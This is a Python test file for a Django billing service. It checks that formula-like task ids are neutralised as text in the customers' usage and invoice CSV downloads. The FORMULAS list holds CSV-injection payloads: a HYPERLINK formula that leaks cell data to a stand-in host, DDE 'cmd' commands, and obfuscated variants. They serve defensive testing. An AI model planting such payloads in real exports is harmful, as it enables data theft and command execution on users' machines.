"""CSV injection: text the AI client controls (a task's external id) reaches the
customer's usage downloads; a cell a spreadsheet would run as a formula is
written as text (prefixed with ')."""

import csv
import io
import json
from datetime import UTC, datetime

import pytest
import time_machine
from django.urls import reverse

from billing import invoicing

pytestmark = pytest.mark.django_db
NOV = datetime(2026, 11, 10, 12, 0, tzinfo=UTC)
FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A2,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # a full-width equals sign
]


def rows_of(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.mark.adversary
def test_formulas_in_task_ids_are_text_in_the_usage_and_invoice_downloads(client, agent, acme_user, acme, offerings):
    with time_machine.travel(NOV, tick=False):
        for external_id in [*FORMULAS, "plain-id"]:
            body = {"external_id": external_id, "task_type": "implement_idea", "customer": "cust_acme"}
            task = agent.post("/api/v1/tasks", json.dumps(body), content_type="application/json").json()
            agent.post(f"/api/v1/tasks/{task['id']}/start", "{}", content_type="application/json")
            finish = {"outcome": "succeeded", "tokens": 10, "cost_micros": 5}
            agent.post(f"/api/v1/tasks/{task['id']}/finish", json.dumps(finish), content_type="application/json")
        client.force_login(acme_user)
        usage = rows_of(client.get(reverse("billing:usage_csv")))
        invoice = invoicing.invoice_prepare(customer_id=acme.pk, period="2026-11")
        on_invoice = rows_of(client.get(reverse("billing:invoice_csv", args=[invoice.pk])))
    for rows in (usage, on_invoice):
        ids = [row[0] for row in rows[1:]]
        # The door: each attacker-chosen id is in the download, whole; it is only made text.
        assert sorted(ids) == sorted(["'" + f for f in FORMULAS] + ["plain-id"])
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d")) for row in rows for cell in row)
        assert rows[1][6].replace(".", "").isdigit()  # numbers stay numbers


def test_the_rule():
    from core.csvsafe import safe_cell

    assert [safe_cell(f)[0] for f in FORMULAS] == ["'"] * len(FORMULAS)
    assert safe_cell("plain =1") == "plain =1" and safe_cell("") == ""
    assert safe_cell(-5) == -5 and safe_cell(None) is None
